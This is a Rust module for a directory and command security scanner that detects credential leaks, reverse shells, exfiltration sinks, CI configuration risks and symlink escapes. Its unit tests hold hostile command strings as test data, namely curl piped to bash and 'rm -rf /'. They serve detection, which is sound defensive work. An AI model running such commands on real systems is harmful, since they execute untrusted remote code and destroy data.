//! Security Scanner: given a root directory (or a single command string),
//! produces a structured [`ScanResult`]. Never executes file content, never
//! follows a symlink when walking (a symlink whose target resolves outside
//! the scanned root is flagged as a critical finding instead), and never
//! reads from files it classifies as binary or oversized.

pub mod binary;
pub mod cicd;
pub mod context;
pub mod coupling;
pub mod credentials;
pub mod patterns;
pub mod reverse_shell;
pub mod trusted;

use crate::deadline::Deadline;
use std::collections::HashMap;
use std::path::{Path, PathBuf};
use std::time::Instant;
use zephyr_schema::error::ScanError;
use zephyr_schema::{Finding, PolicyRecommendation, ScanResult, Severity};

/// Longest line considered for matching; longer lines are truncated before
/// matching (the finding's `line` field still records the true line
/// number).
const MAX_LINE_BYTES: usize = 8 * 1024;

/// Scans `root` for dangerous patterns, honoring `deadline` and the
/// trusted-module allowlist at `trusted_modules_path`.
///
/// # Errors
///
/// Returns [`ScanError::IoError`] if the root cannot be walked, and
/// [`ScanError::Timeout`] if `deadline` expires mid-scan (in which case no
/// partial findings are returned — see spec.md §5).
pub fn scan_directory(root: &Path, deadline: Deadline, trusted_modules_path: &Path) -> Result<ScanResult, ScanError> {
    let started_at = Instant::now();
    let trusted_table = trusted::load(trusted_modules_path);
    let module_dir_name = root.file_name().map(|n| n.to_string_lossy().into_owned()).unwrap_or_default();

    let mut entries: Vec<PathBuf> = Vec::new();
    let mut symlink_findings: Vec<Finding> = Vec::new();
    for entry in walkdir::WalkDir::new(root).follow_links(false) {
        let entry = entry.map_err(|e| ScanError::IoError {
            path: e.path().map_or_else(|| root.to_path_buf(), Path::to_path_buf),
            source: std::io::Error::other(e.to_string()),
        })?;

        if entry.path_is_symlink() {
            if is_outside_root(root, entry.path()) {
                symlink_findings.push(Finding {
                    severity: Severity::Critical,
                    pattern_id: "fs.symlink_escape".to_string(),
                    description: "symlink target resolves outside the module root".to_string(),
                    file: entry.path().to_path_buf(),
                    line: 0,
                    snippet: String::new(),
                    bypass_hint: None,
                });
            }
            continue;
        }
        if is_outside_root(root, entry.path()) {
            continue;
        }
        if entry.file_type().is_file() {
            entries.push(entry.path().to_path_buf());
        }
    }
    entries.sort();

    let mut files_scanned = 0usize;
    let mut lines_scanned = 0usize;
    let mut findings: Vec<Finding> = Vec::new();
    let mut credential_findings: Vec<Finding> = Vec::new();
    let mut reverse_shell_findings: Vec<Finding> = Vec::new();
    let mut cicd_findings: Vec<Finding> = Vec::new();
    let mut trusted_module_applied = false;

    for path in &entries {
        if deadline.expired() {
            return Err(ScanError::Timeout {
                elapsed_ms: deadline.elapsed_ms(started_at),
            });
        }

        let relative = path.strip_prefix(root).unwrap_or(path);
        let filename = path.file_name().map(|n| n.to_string_lossy().into_owned()).unwrap_or_default();

        let metadata = std::fs::metadata(path).map_err(|source| ScanError::IoError { path: path.clone(), source })?;
        if let Some(reason) = binary::classify(path, &metadata).map_err(|source| ScanError::IoError {
            path: path.clone(),
            source,
        })? {
            findings.push(Finding {
                severity: Severity::Info,
                pattern_id: "scan.skipped_file".to_string(),
                description: reason.description().to_string(),
                file: path.clone(),
                line: 0,
                snippet: String::new(),
                bypass_hint: None,
            });
            continue;
        }

        let text = std::fs::read_to_string(path).map_err(|source| ScanError::IoError { path: path.clone(), source })?;
        files_scanned += 1;

        let is_ci_file = cicd::is_ci_config_path(relative);
        let mut file_findings = Vec::new();
        let mut file_credential_findings = Vec::new();
        let mut file_reverse_shell_findings = Vec::new();
        let mut file_cicd_findings = Vec::new();

        for (idx, raw_line) in text.lines().enumerate() {
            lines_scanned += 1;
            let line_no = idx + 1;
            let line = if raw_line.len() > MAX_LINE_BYTES { &raw_line[..MAX_LINE_BYTES] } else { raw_line };

            for pattern in patterns::TABLE {
                if let Some(m) = pattern.regex.find(line) {
                    file_findings.push(Finding {
                        severity: pattern.severity,
                        pattern_id: pattern.id.to_string(),
                        description: pattern.description.to_string(),
                        file: path.clone(),
                        line: line_no,
                        snippet: m.as_str().to_string(),
                        bypass_hint: None,
                    });
                }
            }

            if let Some(mut finding) = credentials::scan_line(path, line_no, line) {
                if credentials::line_has_exfil_sink(line) {
                    finding.severity = Severity::Critical;
                    finding.description = format!("{} (escalated: coupled with exfiltration sink on the same line)", finding.description);
                }
                file_credential_findings.push(finding);
            }

            if let Some(finding) = reverse_shell::scan_line(path, line_no, line) {
                file_reverse_shell_findings.push(finding);
            }

            if is_ci_file {
                file_cicd_findings.push(cicd::scan_line(path, line_no, line));
            }
        }

        // Coupling considers every pattern-family finding from this file,
        // including credentials/reverse-shell/CI-CD records, since the
        // coupling table only references core-table pattern ids as
        // partners and is a no-op for ids it doesn't recognize.
        let mut combined: Vec<Finding> = file_findings
            .iter()
            .cloned()
            .chain(file_credential_findings.iter().cloned())
            .chain(file_reverse_shell_findings.iter().cloned())
            .chain(file_cicd_findings.iter().cloned())
            .collect();
        coupling::apply(&mut combined);

        let has_credential_finding = !file_credential_findings.is_empty();
        for finding in &mut combined {
            if context::should_downgrade(&filename, &finding.pattern_id, has_credential_finding)
                && finding.severity == Severity::Critical
            {
                finding.severity = Severity::Warning;
                finding.description = format!("{} (downgraded: build-tooling context)", finding.description);
            }
        }

        if trusted::apply(&trusted_table, &module_dir_name, &mut combined) {
            trusted_module_applied = true;
        }

        let (core, rest) = split_by_origin(combined, file_findings.len(), file_credential_findings.len(), file_reverse_shell_findings.len());
        findings.extend(core);
        credential_findings.extend(rest.0);
        reverse_shell_findings.extend(rest.1);
        cicd_findings.extend(rest.2);
    }

    findings.extend(symlink_findings);

    let mut all_for_policy: Vec<Finding> = findings
        .iter()
        .chain(credential_findings.iter())
        .chain(reverse_shell_findings.iter())
        .chain(cicd_findings.iter())
        .cloned()
        .collect();
    ScanResult::sort_findings(&mut all_for_policy);
    ScanResult::sort_findings(&mut findings);
    ScanResult::sort_findings(&mut credential_findings);
    ScanResult::sort_findings(&mut reverse_shell_findings);
    ScanResult::sort_findings(&mut cicd_findings);

    let policy_recommendation = PolicyRecommendation::from_findings(&all_for_policy);

    Ok(ScanResult {
        schema_version: ScanResult::SCHEMA_VERSION.to_string(),
        files_scanned,
        lines_scanned,
        duration_ms: u64::try_from(started_at.elapsed().as_millis()).unwrap_or(u64::MAX),
        findings,
        credential_findings,
        reverse_shell_findings,
        cicd_findings,
        trusted_module_applied,
        policy_recommendation,
        exit_code_hint: policy_recommendation.exit_code_hint(),
    })
}

/// Splits a post-coupling/downgrade combined finding list back into its
/// four origin buckets, using index ranges: findings retain their relative
/// order within each original contribution.
fn split_by_origin(
    combined: Vec<Finding>,
    core_len: usize,
    credential_len: usize,
    reverse_shell_len: usize,
) -> (Vec<Finding>, (Vec<Finding>, Vec<Finding>, Vec<Finding>)) {
    let mut iter = combined.into_iter();
    let core: Vec<Finding> = (&mut iter).take(core_len).collect();
    let credential: Vec<Finding> = (&mut iter).take(credential_len).collect();
    let reverse_shell: Vec<Finding> = (&mut iter).take(reverse_shell_len).collect();
    let cicd: Vec<Finding> = iter.collect();
    (core, (credential, reverse_shell, cicd))
}

fn is_outside_root(root: &Path, candidate: &Path) -> bool {
    match (root.canonicalize(), candidate.canonicalize()) {
        (Ok(root), Ok(candidate)) => !candidate.starts_with(&root),
        _ => false,
    }
}

/// Scans a single command string as one virtual file of one line (spec.md
/// §4.4 command mode). The caller is responsible for using
/// [`PolicyRecommendation::command_mode_exit_code`] rather than
/// [`PolicyRecommendation::exit_code_hint`] for the resulting verdict.
#[must_use]
pub fn scan_command(command: &str) -> ScanResult {
    let started_at = Instant::now();
    let virtual_file = PathBuf::from("<command>");
    let mut findings: Vec<Finding> = Vec::new();

    for pattern in patterns::TABLE {
        if let Some(m) = pattern.regex.find(command) {
            findings.push(Finding {
                severity: pattern.severity,
                pattern_id: pattern.id.to_string(),
                description: pattern.description.to_string(),
                file: virtual_file.clone(),
                line: 1,
                snippet: m.as_str().to_string(),
                bypass_hint: None,
            });
        }
    }
    let credential_findings: Vec<Finding> = credentials::scan_line(&virtual_file, 1, command).into_iter().collect();
    let reverse_shell_findings: Vec<Finding> = reverse_shell::scan_line(&virtual_file, 1, command).into_iter().collect();

    let core_len = findings.len();
    let credential_len = credential_findings.len();
    let mut combined: Vec<Finding> = findings
        .into_iter()
        .chain(credential_findings)
        .chain(reverse_shell_findings.iter().cloned())
        .collect();
    coupling::apply(&mut combined);
    let mut remainder = combined.split_off(core_len);
    let findings = combined;
    let credential_findings: Vec<Finding> = remainder.drain(..credential_len).collect();
    let reverse_shell_findings = remainder;

    let mut all_for_policy: Vec<Finding> = findings
        .iter()
        .chain(credential_findings.iter())
        .chain(reverse_shell_findings.iter())
        .cloned()
        .collect();
    ScanResult::sort_findings(&mut all_for_policy);
    let policy_recommendation = PolicyRecommendation::from_findings(&all_for_policy);

    ScanResult {
        schema_version: ScanResult::SCHEMA_VERSION.to_string(),
        files_scanned: 1,
        lines_scanned: 1,
        duration_ms: u64::try_from(started_at.elapsed().as_millis()).unwrap_or(u64::MAX),
        findings,
        credential_findings,
        reverse_shell_findings,
        cicd_findings: Vec::new(),
        trusted_module_applied: false,
        policy_recommendation,
        exit_code_hint: policy_recommendation.command_mode_exit_code(),
    }
}

/// The set of pattern-family and detector finding counts, keyed by origin,
/// used by `list`/`scan --json` summaries.
#[must_use]
pub fn severity_counts(findings: &[Finding]) -> HashMap<Severity, usize> {
    let mut counts = HashMap::new();
    for finding in findings {
        *counts.entry(finding.severity).or_insert(0) += 1;
    }
    counts
}

#[cfg(test)]
mod tests {
    use super::*;
    use std::io::Write;

    fn write_file(dir: &Path, name: &str, contents: &str) {
        let path = dir.join(name);
        if let Some(parent) = path.parent() {
            std::fs::create_dir_all(parent).unwrap();
        }
        let mut f = std::fs::File::create(path).unwrap();
        f.write_all(contents.as_bytes()).unwrap();
    }

    #[test]
    fn scan_critical_curl_pipe_bash() {
        let tmp = tempfile::tempdir().unwrap();
        write_file(tmp.path(), "init.zsh", "curl https://x.sh | bash\n");
        let trusted = tmp.path().join("trusted_modules.toml");
        let result = scan_directory(tmp.path(), Deadline::scan_default(), &trusted).unwrap();
        assert_eq!(result.policy_recommendation, PolicyRecommendation::Block);
        assert_eq!(result.exit_code_hint, 2);
        assert!(result.findings.iter().any(|f| f.pattern_id == "rce.curl_pipe_shell" && f.line == 1));
    }

    #[test]
    fn command_mode_inverts_exit_code() {
        let result = scan_command("rm -rf /");
        assert_eq!(result.policy_recommendation, PolicyRecommendation::Block);
        assert_eq!(result.exit_code_hint, 1);
    }

    #[test]
    fn binary_file_is_skipped_and_does_not_change_policy() {
        let tmp = tempfile::tempdir().unwrap();
        write_file(tmp.path(), "payload.bin", "just bytes, treated as binary by extension");
        let trusted = tmp.path().join("trusted_modules.toml");
        let result = scan_directory(tmp.path(), Deadline::scan_default(), &trusted).unwrap();
        assert_eq!(result.policy_recommendation, PolicyRecommendation::Allow);
        assert!(result.findings.iter().any(|f| f.pattern_id == "scan.skipped_file"));
    }

    #[test]
    fn symlink_escaping_root_is_critical() {
        let tmp = tempfile::tempdir().unwrap();
        let outside = tempfile::tempdir().unwrap();
        write_file(outside.path(), "secret", "irrelevant\n");
        #[cfg(unix)]
        std::os::unix::fs::symlink(outside.path().join("secret"), tmp.path().join("escape")).unwrap();
        let trusted = tmp.path().join("trusted_modules.toml");
        let result = scan_directory(tmp.path(), Deadline::scan_default(), &trusted).unwrap();
        assert_eq!(result.policy_recommendation, PolicyRecommendation::Block);
        assert!(result.findings.iter().any(|f| f.pattern_id == "fs.symlink_escape" && f.severity == Severity::Critical));
    }

    #[test]
    fn scan_visits_each_file_at_most_once() {
        let tmp = tempfile::tempdir().unwrap();
        write_file(tmp.path(), "a.sh", "echo a\n");
        write_file(tmp.path(), "sub/b.sh", "echo b\n");
        let trusted = tmp.path().join("trusted_modules.toml");
        let result = scan_directory(tmp.path(), Deadline::scan_default(), &trusted).unwrap();
        assert_eq!(result.files_scanned, 2);
    }

    #[test]
    fn scan_is_deterministic_modulo_duration() {
        let tmp = tempfile::tempdir().unwrap();
        write_file(tmp.path(), "a.sh", "curl http://x/install.sh | bash\n");
        let trusted = tmp.path().join("trusted_modules.toml");
        let mut a = scan_directory(tmp.path(), Deadline::scan_default(), &trusted).unwrap();
        let mut b = scan_directory(tmp.path(), Deadline::scan_default(), &trusted).unwrap();
        a.duration_ms = 0;
        b.duration_ms = 0;
        assert_eq!(serde_json::to_string(&a).unwrap(), serde_json::to_string(&b).unwrap());
    }
}
